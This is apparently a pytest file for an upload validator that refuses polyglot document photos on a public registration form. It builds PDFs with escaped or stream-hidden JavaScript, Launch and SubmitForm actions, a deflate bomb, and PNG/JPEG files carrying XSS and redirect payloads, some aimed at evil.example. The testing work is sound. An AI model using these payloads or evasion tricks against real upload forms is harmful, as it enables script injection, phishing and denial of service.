"""Polyglot document photos on the public registration form: PDF active content
spelled with ``#XX`` name escapes or hidden in compressed object streams, deflate
bombs, and HTML tags or event handlers inside a PNG or JPEG are refused (400,
nothing stored); real photos and scans, compressed streams included, still pass."""

from __future__ import annotations

import random
import tracemalloc
import zlib
from pathlib import Path

import pytest

from guest_registration.extensions import db
from guest_registration.models import Guest
from tests.test_security import register

MARKUP = "markup or script"
TOO_LARGE = "larger than"




def stored(app) -> list[str]:
    folder = Path(app.config["UPLOAD_FOLDER"])
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def noise(n: int, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(n)


# --- files ------------------------------------------------------------------------------

def jpeg(payload: bytes) -> bytes:
    """A JPEG-shaped file: SOI, a JFIF header, entropy-coded-looking data, EOI."""
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
            + payload.replace(b"\xff", b"\xff\x00") + b"\xff\xd9")


def png(width: int = 200, height: int = 150, extra: bytes = b"") -> bytes:
    """A real RGB PNG (a noisy gradient, zlib-compressed); ``extra`` goes before IEND."""
    import struct

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    rnd = random.Random(3)
    rows = b"".join(b"\x00" + bytes((x + y + rnd.randrange(40)) % 256 for x in range(width * 3))
                    for y in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + extra + chunk(b"IEND", b""))


def stream(entries: bytes, data: bytes) -> bytes:
    return b"<<" + entries + b"/Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


def pdf(*objects: bytes) -> bytes:
    """A PDF of ``objects`` (numbered from 1, object 1 the catalogue) with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = (b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 150]/Contents 4 0 R"
        b"/Resources<</XObject<</Im0 5 0 R>>>>>>")
CONTENT = stream(b"/Filter/FlateDecode", zlib.compress(b"q 200 0 0 150 0 0 cm /Im0 Do Q"))
IMAGE_HEAD = b"/Type/XObject/Subtype/Image/Width 200/Height 150/ColorSpace/DeviceRGB/BitsPerComponent 8"
FLATE_IMAGE = stream(IMAGE_HEAD + b"/Filter/FlateDecode", zlib.compress(png()[33:-12]))


def scan(*extra: bytes, catalog: bytes = CATALOG, image: bytes = FLATE_IMAGE) -> bytes:
    """A one-page scan: content stream and image FlateDecode, plus ``extra`` objects (6, 7…)."""
    return pdf(catalog, PAGES, PAGE, CONTENT, image, *extra)


def objstm(objects: bytes, entries: bytes = b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode",
           encode=zlib.compress) -> bytes:
    """An object stream holding object 8 (``objects``)."""
    return stream(entries, encode(b"8 0 " + objects))


def endstream_inside(text: bytes) -> bytes:
    """zlib data for ``text`` whose first part is a stored block, so that the literal
    ``endstream`` in it appears in the compressed bytes; the rest is compressed."""
    cut = text.index(b"endstream") + len(b"endstream")
    head, packer = text[:cut], zlib.compressobj(9, zlib.DEFLATED, -15)
    stored = b"\x00" + len(head).to_bytes(2, "little") + (len(head) ^ 0xFFFF).to_bytes(2, "little")
    return (b"\x78\x9c" + stored + head + packer.compress(text[cut:]) + packer.flush()
            + zlib.adler32(text).to_bytes(4, "big"))


#: a document-level script (the catalogue's /Names → object 8), all of it inside object 8
JS_ACTION = b"<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert(1))>>]>>>>"
NAMES_JS = CATALOG[:-2] + b"/Names 8 0 R>>"


def deflate_bomb(inflated: int = 100 * 1024 * 1024) -> bytes:
    packer, zeros, parts = zlib.compressobj(9), bytes(1024 * 1024), []
    for _ in range(inflated // len(zeros)):
        parts.append(packer.compress(zeros))
    return b"".join(parts) + packer.flush()


# --- refused ----------------------------------------------------------------------------

def in_png(markup: bytes) -> bytes:
    return png(extra=markup)


HOSTILE = {
    # PDF names with #XX escapes: what every reader decodes to /JavaScript, /JS, /OpenAction …
    "escaped /J#61vaScript /J#53": (scan(b"<</Type/Action/S/J#61vaScript/J#53(app.alert(1))>>"), "x.pdf"),
    "escaped /Open#41ction": (scan(b"<</S/URI>>", catalog=CATALOG[:-2] + b"/Open#41ction 6 0 R>>"),
                              "x.pdf"),
    "escaped /#41A on a page": (scan(b"<</S/Named/N/NextPage>>",
                                     catalog=CATALOG[:-2] + b"/#41#41<</O 6 0 R>>>>"), "x.pdf"),
    "escaped /L#61unch": (scan(b"<</S/L#61unch/F(calc.exe)>>"), "x.pdf"),
    "escaped lower-case hex /#4a#53": (scan(b"<</S/Named/N/NextPage/Next<</S/J#61v#61Script/#4a#53 7 0 R>>>>", b"(app.alert(1))"), "x.pdf"),
    "/SubmitForm action": (scan(b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>"),
                           "x.pdf"),
    # active content inside a compressed object stream
    "JavaScript in a FlateDecode object stream": (scan(objstm(JS_ACTION), catalog=NAMES_JS), "x.pdf"),
    "object stream without /Type (pdf.js reads it)": (
        scan(objstm(JS_ACTION, b"/N 1/First 5/Filter/FlateDecode"), catalog=NAMES_JS), "x.pdf"),
    "object stream with escaped keys": (
        scan(objstm(b"<</S/J#61vaScript/JS(1)>>", b"/Type/Obj#53tm/#4E 1/Fir#73t 5/Filter/Fl#61teDecode"),
             catalog=NAMES_JS), "x.pdf"),
    "object stream in ASCIIHexDecode": (
        scan(objstm(JS_ACTION, b"/Type/ObjStm/N 1/First 5/Filter/ASCIIHexDecode",
                    encode=lambda d: d.hex().encode() + b">"), catalog=NAMES_JS), "x.pdf"),
    "object stream deflated twice": (
        scan(objstm(JS_ACTION, b"/Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]",
                    encode=lambda d: zlib.compress(zlib.compress(d))), catalog=NAMES_JS), "x.pdf"),
    "object stream with a PNG predictor": (
        scan(objstm(JS_ACTION, b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode"
                               b"/DecodeParms<</Predictor 12/Columns 4>>"), catalog=NAMES_JS), "x.pdf"),
    "object stream whose filter is a reference": (
        scan(objstm(JS_ACTION, b"/Type/ObjStm/N 1/First 5/Filter 9 0 R"), catalog=NAMES_JS), "x.pdf"),
    "object stream dressed as an image by a fake header in a string": (
        scan(stream(b"/N 1/First 5/Filter/FlateDecode/T(1 0 obj <</Subtype/Image %)\n",
                    zlib.compress(b"8 0 " + JS_ACTION)), catalog=NAMES_JS), "x.pdf"),
    "object stream whose compressed data holds the word endstream": (
        scan(stream(b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode",
                    endstream_inside(b"8 0 <</Title(endstream)" + JS_ACTION[2:])), catalog=NAMES_JS),
        "x.pdf"),
    "object hidden inside a JPEG stream's data": (
        scan(stream(b"/Subtype/Image/Filter/DCTDecode",
                    b"\xff\xd8" + noise(500) + b"\n8 0 obj <</J#61vaScript<</Names[(x)<</S/J#61vaScript/J#53(1)>>]>>>> endobj\n"
                    + noise(500, 2) + b"\xff\xd9"), catalog=NAMES_JS), "x.pdf"),
    "encrypted PDF": (scan(b"<</Filter/Standard/V 2/R 3/O<00>/U<00>/P -4>>",
                           catalog=CATALOG[:-2] + b"/Encrypt 6 0 R>>"), "x.pdf"),
    # HTML in a PNG or JPEG
    "PNG with <img onerror>": (in_png(b"<img src=x onerror=alert(document.domain)>"), "c.png"),
    "PNG with <IMG SRC ONERROR> upper case": (in_png(b"<IMG SRC=x ONERROR=alert(1)>"), "c.png"),
    "PNG with a custom tag's handler": (in_png(b"<x onmouseover=alert(1)>hover</x>"), "c.png"),
    "PNG with <details ontoggle>": (in_png(b"<details open ontoggle=alert(1)>"), "c.png"),
    "PNG with <a href>": (in_png(b'<a href="https://evil.example/">sign in</a>'), "c.png"),
    "JPEG with <object>": (jpeg(noise(2000) + b"<object data=x.swf></object>" + noise(2000, 2)),
                           "c.jpg"),
    "JPEG with <embed>": (jpeg(noise(2000) + b"<embed src=x.swf>" + noise(2000, 2)), "c.jpg"),
    "JPEG with <meta refresh>": (
        jpeg(b'<meta http-equiv="refresh" content="0;url=https://evil.example/">'), "c.jpg"),
    "JPEG with <iframe srcdoc>": (jpeg(b"<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>"),
                                  "c.jpg"),
    "JPEG with <link stylesheet>": (jpeg(b"<link rel=stylesheet href=//evil.example/x.css>"), "c.jpg"),
    "JPEG with <style>": (jpeg(b"<style>body{background:url(//evil.example/)}</style>"), "c.jpg"),
    "JPEG with <form>": (jpeg(b"<form action=//evil.example/><input name=p></form>"), "c.jpg"),
    "JPEG with <base>": (jpeg(b"<base href=//evil.example/>"), "c.jpg"),
    "JPEG with <svg/onload>": (jpeg(b"<svg/onload=alert(1)>"), "c.jpg"),
    "JPEG with <math>": (jpeg(b"<math><mtext><table><mglyph><style><img src=x>"), "c.jpg"),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_polyglots_are_refused_and_nothing_stored(app, client, trip_id, case):
    data, filename = HOSTILE[case]
    assert len(data) <= app.config["MAX_PHOTO_BYTES"], case
    resp = register(client, trip_id, data, filename)
    assert resp.status_code == 400, case
    assert MARKUP in resp.get_data(as_text=True), case
    assert stored(app) == []
    with app.app_context():
        assert db.session.query(Guest).count() == 0


@pytest.mark.parametrize("where", ["object stream", "image stream"])
def test_a_deflate_bomb_is_refused_in_bounded_memory(app, client, trip_id, where):
    """~100 MB of zeros deflated to ~100 KB: refused, and the check never holds more
    than a few MB (it inflates in chunks and stops at a cap)."""
    bomb = deflate_bomb()
    if where == "object stream":
        data = scan(stream(b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode", bomb))
    else:
        data = scan(image=stream(IMAGE_HEAD + b"/Filter/FlateDecode", bomb))
    assert len(data) <= app.config["MAX_PHOTO_BYTES"]
    tracemalloc.start()
    try:
        resp = register(client, trip_id, data, "bomb.pdf")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert resp.status_code == 400
    assert TOO_LARGE in resp.get_data(as_text=True)
    assert stored(app) == []
    assert peak < 16 * 1024 * 1024, peak


# --- accepted ---------------------------------------------------------------------------

LEGITIMATE = {
    "JPEG photo": (jpeg(noise(150 * 1024)), "jpg"),
    "PNG photo": (png(), "png"),
    "PDF scan, FlateDecode content and image": (scan(), "pdf"),
    "PDF scan with a JPEG image whose data happens to hold /JS and /AA": (
        scan(image=stream(IMAGE_HEAD + b"/Filter/DCTDecode",
                          jpeg(noise(3000) + b"\x10/JS\x00/AA(/Launch\x01" + noise(3000, 2)))), "pdf"),
    "PDF 1.5 scan: clean object stream, xref stream with a predictor": (
        scan(objstm(b"<</Producer(Phone Scanner)/CreationDate(D:20250601)>>"),
             stream(b"/Type/XRef/Size 8/W[1 2 1]/Filter/FlateDecode/DecodeParms<</Predictor 12"
                    b"/Columns 4>>", zlib.compress(noise(60)))), "pdf"),
    "PDF with a colour profile (/N 3) and a link": (
        scan(stream(b"/N 3/Alternate/DeviceRGB/Filter/FlateDecode", zlib.compress(noise(3000))),
             b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://example.com/)>>>>"),
        "pdf"),
}


@pytest.mark.parametrize("case", list(LEGITIMATE))
def test_real_photos_and_scans_are_accepted(app, client, trip_id, case):
    data, ext = LEGITIMATE[case]
    assert len(data) <= app.config["MAX_PHOTO_BYTES"], case
    resp = register(client, trip_id, data, f"photo.{ext}")
    assert resp.status_code == 302, (case, resp.get_data(as_text=True)[-2000:])
    [name] = stored(app)
    assert name.endswith(f".{ext}")
    assert (Path(app.config["UPLOAD_FOLDER"]) / name).read_bytes() == data
